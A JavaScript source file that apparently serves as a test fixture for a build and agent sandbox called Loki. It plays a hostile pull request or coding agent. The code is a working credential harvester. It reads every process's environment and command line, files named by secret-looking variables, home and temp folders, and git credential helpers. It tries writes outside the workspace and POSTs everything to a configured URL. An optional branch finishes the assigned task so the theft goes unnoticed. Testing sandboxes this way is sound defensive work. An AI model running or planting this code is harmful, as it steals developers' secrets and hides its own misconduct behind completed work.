// A credential hunter, as a hostile pull request or agent would write it. It runs as the PR's test
// script or as the coding agent and collects everything a credential could hide in: every
// process's environment and command line, Loki's state folder, $HOME, $TMPDIR, /tmp, the files
// that any TOKEN, KEY or SECRET variable names, and (as an agent) git's config and credential
// helpers. It also tries to write outside its workspace. What it found goes to loot.json in its
// working directory and, when LOOT_URL is set in the header, to that URL (exfiltration).
//
// The test that uses it prepends `const HUNT = {...}` naming the paths an attacker might guess
// (worst case: it knows them exactly) and where to try writing.
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const config = globalThis.HUNT ?? {};
const loot = { pid: process.pid, texts: [], read: [], wrote: [], processes: 0 };
let budget = 8 * 1024 * 1024;
const take = (where, text) => {
  if (!text || budget <= 0) return;
  const piece = String(text).slice(0, Math.min(256 * 1024, budget));
  budget -= piece.length;
  loot.texts.push(`${where}: ${piece}`);
  loot.read.push(where);
};
const readText = (path) => {
  try {
    return readFileSync(path, 'utf8');
  } catch {
    return undefined;
  }
};
const walk = (root, depth = 5) => {
  if (!root || depth < 0) return;
  let st;
  try {
    st = statSync(root);
  } catch {
    return;
  }
  if (st.isFile()) return take(root, readText(root));
  if (!st.isDirectory()) return;
  let names = [];
  try {
    names = readdirSync(root);
  } catch {
    return;
  }
  for (const name of names) {
    if (name === 'node_modules' || name === '.git' || name === 'loot.json') continue;
    walk(join(root, name), depth - 1);
  }
};

// 1. Every process's environment and command line.
const environs = [];
for (const name of readdirSync('/proc')) {
  if (!/^\d+$/.test(name)) continue;
  loot.processes++;
  const environ = readText(`/proc/${name}/environ`);
  if (environ) {
    take(`/proc/${name}/environ`, environ);
    environs.push(environ.split('\0'));
  }
  take(`/proc/${name}/cmdline`, readText(`/proc/${name}/cmdline`));
}

// 2. Files named by credential-looking variables, here or in any environment seen.
const pairs = [...Object.entries(process.env).map(([k, v]) => `${k}=${v}`), ...environs.flat()];
const named = new Set();
for (const pair of pairs) {
  const eq = pair.indexOf('=');
  if (eq < 0) continue;
  const key = pair.slice(0, eq);
  const value = pair.slice(eq + 1);
  if (/TOKEN|KEY|SECRET|STATE_DIR/i.test(key) && value.startsWith('/')) named.add(value);
}
for (const path of named) walk(path, 3);

// 3. The usual hiding places, and every path the attacker could guess.
walk(process.env.HOME, 4);
walk(process.env.TMPDIR, 4);
walk('/tmp', 4);
for (const path of config.guess ?? []) walk(path, 4);

// 4. As an agent: git's own view of credentials.
if (config.agent) {
  take('.git/config', readText('.git/config'));
  const run = (args, input) => {
    try {
      return execFileSync('git', args, { input, encoding: 'utf8', timeout: 10_000, stdio: ['pipe', 'pipe', 'pipe'], env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });
    } catch (error) {
      return `${error.stdout ?? ''}${error.stderr ?? ''}`;
    }
  };
  take('git config --list --show-origin', run(['config', '--list', '--show-origin']));
  take('git remote -v', run(['remote', '-v']));
  for (const host of ['github.com', ...(config.hosts ?? [])]) {
    take(`git credential fill ${host}`, run(['credential', 'fill'], `protocol=https\nhost=${host}\n\n`));
  }
}

// 5. Writes outside the workspace.
for (const path of config.write ?? []) {
  try {
    writeFileSync(path, `written by the hunter ${process.pid}\n`);
    loot.wrote.push(path);
  } catch {
    // refused: good for the defender
  }
}

const text = JSON.stringify(loot);
// A project command leaves its loot in the workspace; an agent only sends it (its workspace is committed).
if (!config.agent) writeFileSync('loot.json', text);
if (config.url) {
  try {
    await fetch(config.url, { method: 'POST', body: text, headers: { 'content-type': 'application/json' } });
  } catch {
    // no network
  }
}
if (config.solve) {
  // An agent that also does its job, so the build goes on to verify and push.
  const file = 'src/math.js';
  if (existsSync(file)) writeFileSync(file, `${readText(file)}\nexport function multiply(a, b) {\n  return a * b;\n}\n`);
  if (existsSync('test')) writeFileSync('test/multiply.test.js', "import { test } from 'node:test';\nimport assert from 'node:assert/strict';\nimport { multiply } from '../src/math.js';\n\ntest('multiplies', () => {\n  assert.equal(multiply(3, 4), 12);\n});\n");
}
